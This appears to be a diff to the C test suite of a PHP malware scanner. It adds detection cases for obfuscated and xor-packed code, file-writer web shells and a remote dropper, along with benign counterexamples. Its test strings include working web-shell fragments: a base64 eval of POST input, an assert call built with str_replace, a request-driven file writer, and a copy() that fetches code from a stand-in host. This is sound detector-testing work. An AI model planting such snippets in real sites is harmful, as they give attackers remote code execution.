@@ -153,6 +153,22 @@ test_obfuscation(void)
 	/* a payload that decodes to PHP */
 	T_HAS("x.php", "<?php file_put_contents('a.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+'));",
 	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 1);
+	/* a name cleaned out of filler by str_replace */
+	T_HAS("x.php", "<?php $a = str_replace('q', '', 'aqsqsqeqrqt');\n$a($_POST['c']);", PHPSCAN_OBFUSCATED_CALL,
+	      PHPSCAN_HIGH, 1);
+	/* a packer's output: strings and bare words xor'ed, or'ed, and'ed */
+	{
+		char buf[4096];
+		size_t o = (size_t)snprintf(buf, sizeof(buf), "<?php\n");
+		int i;
+
+		for (i = 0; i < 30; i++)
+			o += (size_t)snprintf(buf + o, sizeof(buf) - o, "$v%d = 'Kq3'^aZx%d|'@@'&'%c';\n", i, i,
+					      'a' + i % 26);
+		T_HAS("x.php", buf, PHPSCAN_XOR_STRINGS, PHPSCAN_HIGH, 0);
+	}
+	/* flags and constants or'ed are not a packer */
+	T_CLEAN("x.php", "<?php error_reporting(E_ERROR | E_WARNING | E_PARSE); if ($a == 'x' || $b == 'y' && $c) {}");
 	/* chr() soup feeding eval */
 	T_HAS("x.php",
 	      "<?php eval(chr(101).chr(99).chr(104).chr(111).chr(32).chr(49).chr(59).chr(32).chr(32).chr(32));",
@@ -214,6 +230,19 @@ test_config_files(void)
 	T_CLEAN(".htaccess", "<FilesMatch \\.php$>\n  SetHandler \"proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost\"\n"
 			     "</FilesMatch>\nAddType application/x-httpd-php .php\n");
 	T_CLEAN(".user.ini", "upload_max_filesize = 64M\nauto_prepend_file = none\n");
+}
+
+static void
+test_writers(void)
+{
+	/* a file editor: where and what both from the request */
+	T_HAS("x.php", "<?php\n$f = $_POST['path'];\nfwrite(fopen($f, 'w'), $_POST['body']);", PHPSCAN_WRITE_OF_INPUT,
+	      PHPSCAN_WEAK, 3);
+	/* a download dropper */
+	T_HAS("x.php", "<?php copy('http://example.invalid/s.txt', 'x.php');", PHPSCAN_REMOTE_DROPPER, PHPSCAN_WEAK,
+	      1);
+	/* a cache file written by the application is not an editor */
+	T_CLEAN("x.php", "<?php file_put_contents(__DIR__ . '/cache/' . md5($_GET['q']) . '.json', json_encode($r));");
 }
 
 static void
@@ -467,6 +496,7 @@ main(void)
 	T_RUN(test_obfuscation);
 	T_RUN(test_placement);
 	T_RUN(test_config_files);
+	T_RUN(test_writers);
 	T_RUN(test_mailer);
 	T_RUN(test_benign);
 	T_RUN(test_limits);
